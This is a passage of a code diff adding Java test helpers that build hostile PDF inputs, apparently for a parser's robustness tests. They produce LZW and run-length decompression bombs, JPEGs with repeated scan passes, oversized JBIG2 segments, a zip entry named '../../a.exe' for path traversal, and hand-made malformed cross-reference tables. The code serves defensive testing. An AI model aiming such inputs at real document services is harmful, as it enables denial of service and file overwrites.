+        var runs = new byte[zeros / 128 * 2 + 1];
+        for (int i = 0; i + 1 < runs.length; i += 2) {
+            runs[i] = (byte) 129;
+        }
+        runs[runs.length - 1] = (byte) 128;
+        return runs;
+    }
+
+    /** Each code names the one that it makes itself, one zero longer than the last; 7 MB a round. */
+    private static byte[] lzw(int rounds) {
+        var bits = new StringBuilder();
+        for (int round = 0; round < rounds; round++) {
+            bits.append(binary(256, round == 0 ? 9 : 12));
+            bits.append(binary(0, 9));
+            for (int size = 258; size < 4090; size++) {
+                bits.append(binary(size, size + 1 >= 2048 ? 12 : size + 1 >= 1024 ? 11 : size + 1 >= 512 ? 10 : 9));
+            }
+        }
+        bits.append("0".repeat(8 - bits.length() % 8));
+        var out = new ByteArrayOutputStream();
+        for (int i = 0; i < bits.length(); i += 8) {
+            out.write(Integer.parseInt(bits, i, i + 8, 2));
+        }
+        return out.toByteArray();
+    }
+
+    private static String binary(int code, int width) {
+        var digits = Integer.toBinaryString(code);
+        return "0".repeat(width - digits.length()) + digits;
+    }
+
+    private static byte[] hex(byte[] content) {
+        return text(HexFormat.of().formatHex(content) + ">");
+    }
+
+    private static byte[] ascii85(byte[] content) {
+        var out = new ByteArrayOutputStream();
+        try (var in = new ByteArrayInputStream(content)) {
+            FilterFactory.INSTANCE
+                    .getFilter(COSName.ASCII85_DECODE)
+                    .encode(in, out, new COSDictionary(), 0);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] jpegHead(int width, int height, int kind) {
+        return new byte[] {
+            (byte) 0xff,
+            (byte) 0xd8,
+            (byte) 0xff,
+            (byte) kind,
+            0,
+            17,
+            8,
+            (byte) (height >> 8),
+            (byte) height,
+            (byte) (width >> 8),
+            (byte) width,
+            3,
+            1,
+            0x11,
+            0,
+            2,
+            0x11,
+            0,
+            3,
+            0x11,
+            0
+        };
+    }
+
+    private static byte[] passes(int count) {
+        var pass = new byte[] {(byte) 0xff, (byte) 0xda, 0, 8, 1, 1, 0, 0, 0, 0};
+        var out = new ByteArrayOutputStream();
+        IntStream.range(0, count).forEach(n -> out.writeBytes(pass));
+        return out.toByteArray();
+    }
+
+    private static byte[] jbig2(int type, int width, int height) {
+        var segment = ByteBuffer.allocate(30);
+        segment.putInt(0).put((byte) type).put((byte) 0).put((byte) 1).putInt(19);
+        return segment.putInt(width).putInt(height).array();
+    }
+
+    private static byte[] zip() {
+        var out = new ByteArrayOutputStream();
+        try (var zip = new ZipOutputStream(out)) {
+            zip.putNextEntry(new ZipEntry("../../a.exe"));
+            zip.write(new byte[100]);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toByteArray();
+    }
+
+    private static byte[] png() {
+        var head = text("IHDR\0\0\0\1\0\0\0\1\10\2\0\0\0");
+        var crc = new CRC32();
+        crc.update(head);
+        return concat(
+                new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13},
+                head,
+                ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
+    }
+
+    private byte[] random(int length) {
+        var bytes = new byte[length];
+        random.nextBytes(bytes);
+        return bytes;
+    }
+
+    private static byte[] filled(int length, int with) {
+        var bytes = new byte[length];
+        Arrays.fill(bytes, (byte) with);
+        return bytes;
+    }
+
+    private static byte[] concat(byte[]... parts) {
+        var all = new ByteArrayOutputStream();
+        for (var part : parts) {
+            all.writeBytes(part);
+        }
+        return all.toByteArray();
+    }
+
+    private static void write(OutputStream out, byte[] bytes) {
+        try {
+            out.write(bytes);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    private static String latin(byte[] bytes) {
+        return new String(bytes, StandardCharsets.ISO_8859_1);
+    }
+
+    private static byte[] bytes(String latin) {
+        return latin.getBytes(StandardCharsets.ISO_8859_1);
+    }
+
+    private static byte[] text(String text) {
+        return text.getBytes(StandardCharsets.ISO_8859_1);
+    }
+
+    /** A PDF put together by hand, its objects numbered from 1; whatever is wrong with them, its table is right. */
+    private static final class RawPdf {
+
+        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
+        private final List<Integer> offsets = new ArrayList<>();
+        private final List<int[]> inStreams = new ArrayList<>();
+        private String trailer = "/Root 1 0 R";
+
+        RawPdf(String... objects) {
+            out.writeBytes(text("%PDF-1.7\n"));
+            List.of(objects).forEach(this::object);
+        }
+
+        RawPdf object(String content) {
+            return raw(content);
+        }
+
+        RawPdf raw(String content) {
+            begin();
+            out.writeBytes(text(content + "\nendobj\n"));
+            return this;
+        }
+
+        RawPdf stream(String entries, byte[] content) {
+            begin();
+            out.writeBytes(text("<<" + entries + "/Length " + content.length + ">>\nstream\n"));
+            out.writeBytes(content);
+            out.writeBytes(text("\nendstream\nendobj\n"));
+            return this;
+        }
+
+        /** Says that an object lies within a stream. */
+        RawPdf inStream(int number, int stream) {
+            inStreams.add(new int[] {number, stream});
+            return this;
+        }
+
+        RawPdf trailer(String entries) {
+            trailer = entries.contains("/Root") ? entries : trailer + entries;
+            return this;
+        }
+
+        byte[] build() {
+            int table = out.size();
+            out.writeBytes(text("xref\n0 " + (offsets.size() + 1) + "\n0000000000 65535 f \n"));
+            offsets.forEach(offset -> out.writeBytes(text("%010d 00000 n \n".formatted(offset))));
+            out.writeBytes(text(
+                    "trailer\n<</Size " + (offsets.size() + 1) + trailer + ">>\nstartxref\n" + table + "\n%%EOF\n"));
+            return out.toByteArray();
+        }
+
+        byte[] buildWithStream() {
+            int size = Math.max(
+                    offsets.size() + 2,
+                    inStreams.stream().mapToInt(in -> in[0] + 1).max().orElse(0));
+            var entries = ByteBuffer.allocate(7 * size);
+            for (int n = 0; n < offsets.size(); n++) {
+                entries.position(7 * (n + 1));
+                entries.put((byte) 1).putInt(offsets.get(n)).putShort((short) 0);
+            }
+            for (var in : inStreams) {
+                entries.position(7 * in[0]);
+                entries.put((byte) 2).putInt(in[1]).putShort((short) 0);
+            }
+            return xref("/W[1 4 2]/Size " + size, entries.array());
+        }
+
+        /** Ends with a cross-reference stream of this content. */
+        byte[] xref(String entries, byte[] content) {
+            int table = out.size();
+            stream(
+                    "/Type/XRef" + (entries.contains("/Size") ? "" : "/Size 2000000") + "/Root 1 0 R" + entries,
+                    content);
+            out.writeBytes(text("startxref\n" + table + "\n%%EOF\n"));
+            return out.toByteArray();
+        }
+
+        private void begin() {
+            offsets.add(out.size());
+            out.writeBytes(text(offsets.size() + " 0 obj\n"));
+        }
+    }
+}
